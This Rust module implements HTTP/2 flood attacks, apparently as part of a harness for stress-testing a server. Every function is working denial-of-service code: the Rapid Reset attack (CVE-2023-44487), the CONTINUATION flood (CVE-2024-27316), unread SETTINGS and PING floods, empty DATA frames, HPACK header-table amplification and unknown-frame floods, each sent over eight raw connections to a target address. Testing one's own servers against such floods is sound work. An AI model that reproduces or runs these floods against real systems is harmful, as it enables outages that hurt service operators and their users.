//! Attacks by floods of cheap frames.

use std::net::SocketAddr;

use super::{
    on_each_connection,
    raw_connection::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, READ, RST_STREAM,
        RawConnection, call, field, frame, head, ids, settings_frame,
    },
};

/// The number of connections.
const CONNECTIONS: usize = 8;
/// The number of frames per write.
const BATCH: u32 = 100;

fn repeated(frame: &[u8]) -> Vec<u8> {
    frame.repeat(BATCH as usize)
}

/// Calls that are reset immediately (CVE-2023-44487).
pub(super) async fn rapid_reset(to: SocketAddr) {
    on_each_connection(CONNECTIONS, || async move {
        let mut next = 0;
        let batch = || {
            let streams = ids(BATCH).map(|id| next + id);
            let frames = streams.flat_map(|stream| {
                [call(READ, stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            });
            let bytes = frames.collect();
            next += 2 * BATCH;
            bytes
        };
        RawConnection::open(to, &[]).await?.flood(batch).await
    })
    .await;
}

/// Settings, whose acknowledgements are not read.
pub(super) async fn settings(to: SocketAddr) {
    on_each_connection(CONNECTIONS, || async move {
        let mut value = 0;
        let batch = || {
            value = (value + 1) % 1_000;
            repeated(&settings_frame(&[(4, 65_535 + value), (1, 4_096 + value)]))
        };
        RawConnection::open_unread(to, &[]).await?.flood(batch).await
    })
    .await;
}

/// Pings, whose answers are not read.
pub(super) async fn pings(to: SocketAddr) {
    on_each_connection(CONNECTIONS, || async move {
        RawConnection::open_unread(to, &[]).await?.flood(|| repeated(&frame(PING, 0, 0, &[1; 8]))).await
    })
    .await;
}

/// DATA frames without data.
pub(super) async fn empty_data(to: SocketAddr) {
    on_each_connection(CONNECTIONS, || async move {
        let mut raw_connection = RawConnection::open(to, &[]).await?;
        raw_connection.send(&call(READ, 1)).await?;
        raw_connection.flood(|| repeated(&frame(DATA, 0, 1, &[]))).await
    })
    .await;
}

/// A header block that never ends (CVE-2024-27316).
pub(super) async fn continuation(to: SocketAddr) {
    on_each_connection(CONNECTIONS, || async move {
        let mut raw_connection = RawConnection::open(to, &[]).await?;
        raw_connection.send(&frame(HEADERS, END_STREAM, 1, &head(READ))).await?;
        let more: Vec<u8> = (0..100).flat_map(|_| field("x-more", "and more of it")).collect();
        raw_connection.flood(|| repeated(&frame(CONTINUATION, 0, 1, &more))).await
    })
    .await;
}

/// Header blocks that refer to one large field of the table many times.
pub(super) async fn header_lists(to: SocketAddr) {
    on_each_connection(CONNECTIONS, || async move {
        let mut next = 1;
        let mut large = field("x-large", &"x".repeat(3_900));
        // Kept in the table, as its newest entry: index 62.
        large[0] = 0x40;
        let batch = || {
            let mut bytes = Vec::new();
            for _ in 0..10 {
                let mut block = head(READ);
                block.extend(&large);
                block.resize(block.len() + 8_000, 0x80 | 62);
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, next, &block));
                next += 2;
            }
            bytes
        };
        RawConnection::open(to, &[]).await?.flood(batch).await
    })
    .await;
}

/// Frames without a meaning.
pub(super) async fn unknown_frames(to: SocketAddr) {
    on_each_connection(CONNECTIONS, || async move {
        let mut stream = 1;
        let batch = || {
            stream = (stream + 2) % 100_001;
            let priority = repeated(&frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 200]));
            [priority, frame(0xee, 0xff, stream, &[7; 1 << 14])].concat()
        };
        RawConnection::open(to, &[]).await?.flood(batch).await
    })
    .await;
}
